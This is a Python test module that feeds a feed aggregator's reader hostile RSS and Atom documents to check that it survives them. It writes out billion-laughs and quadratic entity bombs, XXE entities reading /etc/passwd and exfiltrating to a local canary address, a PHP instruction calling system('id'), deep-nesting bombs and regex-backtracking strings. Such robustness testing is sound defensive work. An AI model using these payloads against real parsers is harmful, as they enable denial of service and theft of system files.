"""Documents that cost their reader dearly: entities, depth, width, and food for bad patterns."""

from __future__ import annotations

from functools import cache

from aggregator.domain.health import Health
from tests.faults.documents import item, rss_text, xml
from tests.faults.fault import End, Fault, ends, fault, reads, reads_something
from tests.faults.wire import Body, Exchange, Reply, Serve, says

READING = 40.0
"""Seconds that a visit may take whose document is read until that is ended."""

ENDED = ends(Health.READER_KILLED)
TOO_DEEP = ends(Health.TOO_DEEP)
NO_FEED = ends(Health.NOT_A_FEED)
HARMLESS = reads_something() | NO_FEED | ENDED | ends(Health.EMPTY)
UNSURE = ends(Health.UNSURE_DATES, titles=None)
"""What stands in the place of a date is none."""
"""Anything is right but to hang, to grow or to leak: what a text means that nobody means."""

LEVELS = 100_000


def document(body: Body) -> Serve:
    return says(Reply(headers=(("Content-Type", "text/xml; charset=utf-8"),), body=body))


def dearly(name: str, body: Body, end: End) -> Fault:
    """A document whose reading must not take long, or is ended."""
    return fault(name, document(body), end, seconds=READING)


def with_type(subset: str, *items: str) -> bytes:
    prolog = f'<?xml version="1.0" encoding="utf-8"?><!DOCTYPE rss [{subset}]>'
    return rss_text(items, prolog=prolog).encode()


def laughs() -> bytes:
    nested = '<!ENTITY l0 "lol">' + "".join(
        f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10)
    )
    return with_type(nested, "<item><title>&l9;</title><guid>l</guid></item>", item("웃음 옆"))


def quadratic() -> bytes:
    return with_type(
        f'<!ENTITY big "{"A" * 100_000}">', f"<item><title>{'&big;' * 10_000}</title></item>"
    )


def many_small() -> bytes:
    """Values within bounds, referred to very often."""
    return with_type(
        f'<!ENTITY some "{"가" * 1500}">', f"<item><title>{'&some;' * 60_000}</title></item>"
    )


def many_entities() -> bytes:
    declared = "".join(f'<!ENTITY e{n} "value">' for n in range(20_000))
    return with_type(declared, item("개체가 많은 것"))


def own_entity() -> bytes:
    return with_type('<!ENTITY self "&self;&self;">', "<item><title>&self;</title></item>")


def external(subset: str, reference: str) -> Serve:
    """A document that wants something from elsewhere; ``CANARY`` is an address of the canary."""

    async def serve(exchange: Exchange) -> None:
        canary = f"http://127.0.0.1:{exchange.place.canary}"
        text = with_type(
            subset.replace("CANARY", canary),
            f"<item><title>밖의 것 {reference}</title><guid>e</guid></item>",
        )
        await exchange.answer(xml(text))

    return serve


def processed(prolog: str, inside: str) -> Serve:
    """A document with an instruction or an element that asks for something from elsewhere."""

    async def serve(exchange: Exchange) -> None:
        canary = f"http://127.0.0.1:{exchange.place.canary}"
        text = rss_text([item("부름이 든 보도자료", extra=inside)], prolog=prolog)
        await exchange.answer(xml(text.replace("CANARY", canary).encode()))

    return serve


def external_doctype() -> Serve:
    return processed('<?xml version="1.0"?><!DOCTYPE rss SYSTEM "CANARY/rss.dtd">', "")


def levels(inner: str) -> bytes:
    return rss_text([item("깊은 것", extra=inner)]).encode()


def deep_xml() -> bytes:
    return levels("<a>" * LEVELS + "</a>" * LEVELS)


def deep_unclosed() -> bytes:
    return levels("<a>" * LEVELS)


def deep_root() -> bytes:
    return b"<rss>" * LEVELS


def content(html: str) -> str:
    space = 'xmlns:content="http://purl.org/rss/1.0/modules/content/"'
    return f"<content:encoded {space}>{html}</content:encoded>"


def deep_escaped() -> bytes:
    return levels(content("&lt;div&gt;" * LEVELS + "깊은 글" + "&lt;/div&gt;" * LEVELS))


def deep_cdata() -> bytes:
    return levels(content(f"<![CDATA[{'<div>' * LEVELS}깊은 글{'</div>' * LEVELS}]]>"))


def deep_mixed() -> bytes:
    """Elements that HTML nests by its own rules."""
    return levels(content(f"<![CDATA[{'<table><tr><td><b><a href=x>' * 20_000}]]>"))


def deep_xhtml() -> bytes:
    inner = "<div>" * LEVELS + "깊은 글" + "</div>" * LEVELS
    return (
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry><id>a</id>'
        '<title>깊은 것</title><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
        f"{inner}</div></content></entry></feed>"
    ).encode()


def attributes() -> bytes:
    many = " ".join(f'a{n}="{n}"' for n in range(200_000))
    return rss_text([item("속성이 이십만 개", extra=f"<x {many}/>")]).encode()


def html_attributes() -> bytes:
    many = " ".join(f'a{n}="{n}"' for n in range(50_000))
    return levels(content(f"<![CDATA[<p {many}>글</p>]]>"))


def same_attribute() -> bytes:
    same = 'a="1" ' * 60_000
    return rss_text([item("같은 속성", extra=f"<x {same}/>")]).encode()


def categories() -> bytes:
    many = "".join(f"<category>c{n}</category>" for n in range(50_000))
    return rss_text([item("갈래가 오만 개", extra=many)]).encode()


def authors() -> bytes:
    space = 'xmlns:dc="http://purl.org/dc/elements/1.1/"'
    many = "".join(f"<dc:creator {space}>p{n}</dc:creator>" for n in range(10_000))
    return rss_text([item("지은이가 만 명", extra=many)]).encode()


def namespaces() -> bytes:
    many = " ".join(f'xmlns:n{n}="urn:n:{n}"' for n in range(20_000))
    return rss_text([item("이름 공간", extra=f"<x {many}/>")]).encode()


def scopes() -> bytes:
    """Each item brings a scope of its own."""
    one = "<item xmlns:{0}='urn:{0}'><title>범위</title><guid>s</guid><{0}:x/></item>"
    return rss_text(one.format(f"p{n}") for n in range(5_000)).encode()


def empty_items() -> bytes:
    return rss_text(["<item/>" * 700_000]).encode()


def different_items() -> bytes:
    one = "<item><title>{0}</title><guid>{0}</guid></item>"
    return rss_text(one.format(n) for n in range(10_000)).encode()


def elements() -> bytes:
    return rss_text([item("원소가 많은 것", extra="<z>1</z>" * 100_000)]).encode()


def comments() -> bytes:
    return rss_text([item("주석"), "<!-- x -->" * 100_000]).encode()


def open_comments() -> bytes:
    return rss_text([item("열린 주석"), "<!--" * 250_000]).encode()


def open_cdata() -> bytes:
    return rss_text([item("열린 시디"), "<![CDATA[" * 100_000]).encode()


def brackets() -> bytes:
    return rss_text([item("꺾쇠"), "<" * 1_000_000]).encode()


def ampersands() -> bytes:
    return rss_text([f"<item><title>{'&' * 500_000}</title></item>", item("앰퍼샌드 옆")]).encode()


def open_references() -> bytes:
    return rss_text([f"<item><title>{'&#x' * 250_000}</title></item>", item("참조 옆")]).encode()


def escaped_often() -> bytes:
    return rss_text(
        [f"<item><title>&{'amp;' * 200_000}lt;</title></item>", item("되풀이 옆")]
    ).encode()


def long_title() -> bytes:
    return rss_text([f"<item><title>{'긴 제목 ' * 80_000}</title><guid>t</guid></item>"]).encode()


def blank_tag() -> bytes:
    return rss_text([f"<item{' ' * 3_000_000}><title>빈칸 든 꼬리표</title></item>"]).encode()


def doctype_long() -> bytes:
    return with_type("<!-- x " + "-" * 3_000_000 + " -->", item("긴 머리"))


def titled(title: str) -> Body:
    return rss_text(
        [f"<item><title>{title}</title><guid>p</guid></item>", item("옆의 것")]
    ).encode()


def dated(date: str) -> Body:
    return rss_text([item("날짜가 긴 것", date=date)]).encode()


def linked(link: str) -> Body:
    return rss_text([item("주소가 긴 것", link=link)]).encode()


@cache
def evil_strings() -> dict[str, Body]:
    """What patterns backtrack over, by the name of the fault."""
    much = 300_000
    return {
        "title-brackets": titled("[" * much),
        "title-brackets-closed": titled("[보도자료]" * 60_000),
        "title-blanks": titled("가" + " " * much + "나"),
        "title-dots": titled("." * much + "!"),
        "title-digits": titled("2026." * 100_000),
        "title-quotes": titled("'\"" * much),
        "title-combining": titled("가" + "\u0301" * much),
        "title-directions": titled("\u202e\u2066" * 100_000),
        "title-a-s": titled("a" * much + "!"),
        "title-addresses": titled("http://a." * 60_000),
        "title-nested": titled("&lt;b&gt;" * 100_000),
        "date-digits": dated("2" * much),
        "date-blanks": dated("Mon," + " " * much + "02 Mar 2026"),
        "date-parts": dated("2026-" * 60_000),
        "date-colons": dated("09:" * 100_000),
        "date-words": dated("Mar " * 80_000),
        "date-days-ago": dated("3일 전 " * 60_000),
        "link-slashes": linked("http://a.example/" + "/" * much),
        "link-dots": linked("http://a.example/" + "../" * 100_000),
        "link-query": linked("http://a.example/?" + "a=b&" * 80_000),
        "link-percent": linked("http://a.example/" + "%25" * 100_000),
        "link-labels": linked("http://" + "a." * 100_000 + "example/"),
        "html-open": levels(content(f"<![CDATA[{'<a href=' * 100_000}]]>")),
        "html-comments": levels(content(f"<![CDATA[{'<!--' * 200_000}]]>")),
        "html-breaks": levels(content(f"<![CDATA[{'<br>' * 400_000}]]>")),
        "html-styles": levels(content(f"<![CDATA[<p style='{'a:b;' * 300_000}'>글</p>]]>")),
        "html-formatting": levels(content(f"<![CDATA[{'<b><i></b>' * 60_000}]]>")),
    }


FAULTS: tuple[Fault, ...] = (
    dearly("entities-laughs", laughs, HARMLESS),
    dearly("entities-quadratic", quadratic, HARMLESS),
    dearly("entities-often", many_small, HARMLESS),
    dearly("entities-many", many_entities, HARMLESS),
    dearly("entities-own", own_entity, HARMLESS),
    fault("external-file", external('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"), HARMLESS),
    fault("external-address", external('<!ENTITY x SYSTEM "CANARY/x">', "&x;"), HARMLESS),
    fault("external-public", external('<!ENTITY x PUBLIC "-//x//EN" "CANARY/p">', "&x;"), HARMLESS),
    fault("external-parameter", external('<!ENTITY % p SYSTEM "CANARY/p"> %p;', ""), HARMLESS),
    fault(
        "external-exfiltration",
        external(
            '<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "CANARY/d"> %d;', "&f;"
        ),
        HARMLESS,
    ),
    fault("external-notation", external('<!NOTATION n SYSTEM "CANARY/n">', ""), HARMLESS),
    fault("external-doctype", external_doctype(), reads("부름이 든 보도자료")),
    fault(
        "instruction-xslt",
        processed('<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="CANARY/s"?>', ""),
        reads("부름이 든 보도자료"),
    ),
    fault(
        "instruction-php",
        processed('<?xml version="1.0"?><?php system("id"); ?>', ""),
        reads("부름이 든 보도자료"),
    ),
    fault(
        "include",
        processed("", '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="CANARY/i"/>'),
        reads("부름이 든 보도자료"),
    ),
    fault(
        "pictures-of-the-canary",
        processed(
            "",
            '<enclosure url="CANARY/e.png" type="image/png" length="1"/>'
            + content("<![CDATA[<img src='CANARY/i.png'><iframe src='CANARY/f'></iframe>글]]>"),
        ),
        reads("부름이 든 보도자료"),
    ),
    dearly("deep-xml", deep_xml, TOO_DEEP),
    dearly("deep-xml-unclosed", deep_unclosed, TOO_DEEP | reads("깊은 것")),
    dearly("deep-root", deep_root, TOO_DEEP),
    dearly("deep-html-escaped", deep_escaped, TOO_DEEP | reads("깊은 것")),
    dearly("deep-html-cdata", deep_cdata, TOO_DEEP | reads("깊은 것")),
    dearly("deep-html-mixed", deep_mixed, TOO_DEEP | reads("깊은 것")),
    dearly("deep-xhtml", deep_xhtml, TOO_DEEP | reads("깊은 것")),
    dearly("attributes", attributes, reads("속성이 이십만 개") | ENDED),
    dearly("attributes-html", html_attributes, reads("깊은 것") | ENDED),
    dearly("attributes-same", same_attribute, reads("같은 속성") | ENDED | NO_FEED),
    dearly("categories", categories, reads("갈래가 오만 개") | ENDED),
    dearly("authors", authors, reads("지은이가 만 명") | ENDED),
    dearly("namespaces", namespaces, reads("이름 공간") | ENDED),
    dearly("namespace-scopes", scopes, reads("범위") | ENDED),
    dearly("items-empty", empty_items, HARMLESS),
    dearly("items-different", different_items, HARMLESS),
    dearly("elements", elements, reads("원소가 많은 것") | ENDED),
    dearly("comments", comments, reads("주석") | ENDED),
    dearly("comments-open", open_comments, HARMLESS),
    dearly("cdata-open", open_cdata, HARMLESS),
    dearly("brackets", brackets, HARMLESS),
    dearly("ampersands", ampersands, HARMLESS),
    dearly("references-open", open_references, HARMLESS),
    dearly("escaped-often", escaped_often, HARMLESS),
    dearly("title-long", long_title, HARMLESS),
    dearly("tag-blank", blank_tag, HARMLESS),
    dearly("doctype-long", doctype_long, HARMLESS),
    *(
        dearly(f"pattern-{name}", body, HARMLESS | UNSURE if name.startswith("date-") else HARMLESS)
        for name, body in evil_strings().items()
    ),
)
